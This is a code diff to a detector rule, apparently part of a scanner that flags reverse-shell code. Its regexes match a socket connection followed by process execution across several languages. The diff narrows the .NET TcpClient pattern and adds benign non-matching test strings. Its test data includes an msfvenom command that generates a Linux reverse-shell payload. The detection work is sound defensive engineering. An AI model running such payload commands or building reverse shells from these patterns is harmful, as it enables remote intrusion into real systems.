@@ -20,8 +20,10 @@ export const rule: Rule = {
     { re: /socketConnection\s*\([^]*?system\s*\(/, window: 400 },
     { re: /(?:WSASocket|WSAConnect)\w?\s*\([^]*?CreateProcess\w?\s*\(/, window: 1200 },
     {
-      re: /(?:Sockets\.TcpClient|TCPClient)\s*\([^]*?(?:iex|Invoke-Expression|cmd\.exe|Process\s*\(|\.Start\s*\()/i,
+      re: /(?<!\w)TCPClient\s*\([^]*?(?:iex|Invoke-Expression|cmd\.exe|Process\s*\(|\.Start\s*\()/i,
       window: 1500,
+      // Anything can be started; what is meant is a process.
+      accept: ({ text }) => !/\.start\s*\($/i.test(text) || /process|cmd|powershell|\/bin\//i.test(text),
     },
     {
       re: /socket[^]*?connect(?:_ex)?\(\s*\(?\(?["'][\w.]+["'],[^]*?(?:os\.(?:popen|system|exec(?:l|le|lp|lpe|v|ve|vp|vpe))|subprocess\.(?:check_output|getoutput|Popen|run|call))\s*\(/,
@@ -66,6 +68,8 @@ export const rule: Rule = {
       'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf',
     ],
     silent: [
+      'client = createRSocketTcpClient();\nassertThat(server).isNotNull();\nserver.start();',
+      'using var client = new TcpClient("stranger.invalid", 443);\nwatch.Start();',
       'socket -p 8080 is the port that it listens on',
       'let stream = TcpStream::connect("127.0.0.1:8080")?;',
       'ssh -L 8080:localhost:80 host',
